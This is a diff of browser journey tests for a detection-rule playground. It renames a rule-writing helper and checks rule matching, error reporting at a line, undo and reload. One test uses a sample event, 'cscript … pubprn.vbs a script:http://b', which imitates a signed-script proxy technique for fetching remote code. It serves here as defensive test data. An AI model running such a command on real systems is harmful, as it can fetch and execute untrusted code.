@@ -18,7 +18,7 @@ detection:
   condition: selection
 `;
 
-async function write(page, source) {
+async function writeRule(page, source) {
   await openRules(page);
   await page.getByRole('button', { name: 'New rule' }).click();
   await write(text(page), source);
@@ -47,7 +47,7 @@ journey('a trace leads to the predicate in the rule’s text', async (page) => {
 journey('a rule of one’s own is evaluated with the pack', async (page) => {
   await paste(page, 'frobnicate.exe --quietly');
   await headline(page, 'The event does not match');
-  await write(page, rule("CommandLine|contains: 'frobnicate'"));
+  await writeRule(page, rule("CommandLine|contains: 'frobnicate'"));
   await page.getByText('No problems found.').waitFor();
   await page.getByRole('link', { name: 'Playground', exact: true }).click();
   await headline(page, 'The event matches');
@@ -55,7 +55,7 @@ journey('a rule of one’s own is evaluated with the pack', async (page) => {
 });
 
 journey('a mistake in a rule is named at its line, and its fix mends it', async (page) => {
-  await write(page, rule("CommandLine|conatins: 'frobnicate'"));
+  await writeRule(page, rule("CommandLine|conatins: 'frobnicate'"));
   await problems(page).getByRole('button', { name: /go to line 8:/ }).first().click();
   const line = await caretLine(text(page));
   assert.equal(line, 8);
@@ -66,7 +66,7 @@ journey('a mistake in a rule is named at its line, and its fix mends it', async 
 
 journey('a deleted rule comes back, and a rule survives a reload', async (page) => {
   const source = rule("CommandLine|contains: 'frobnicate'");
-  await write(page, source);
+  await writeRule(page, source);
   await page.getByRole('button', { name: 'Delete' }).click();
   await page.getByRole('button', { name: 'Undo' }).click();
   assert.equal(await read(text(page)), source);
@@ -77,7 +77,7 @@ journey('a deleted rule comes back, and a rule survives a reload', async (page) 
 journey('text that is no rule at all is told, and stops nothing', async (page) => {
   await paste(page, 'cscript C:\\x\\pubprn.vbs a script:http://b');
   for (const source of ['', '- [', 'just words', `title: ${'['.repeat(1000)}`, '\u0000', rule('CommandLine|re: "("')]) {
-    await write(page, source);
+    await writeRule(page, source);
     await problems(page).waitFor();
   }
   await page.getByRole('link', { name: 'Playground', exact: true }).click();
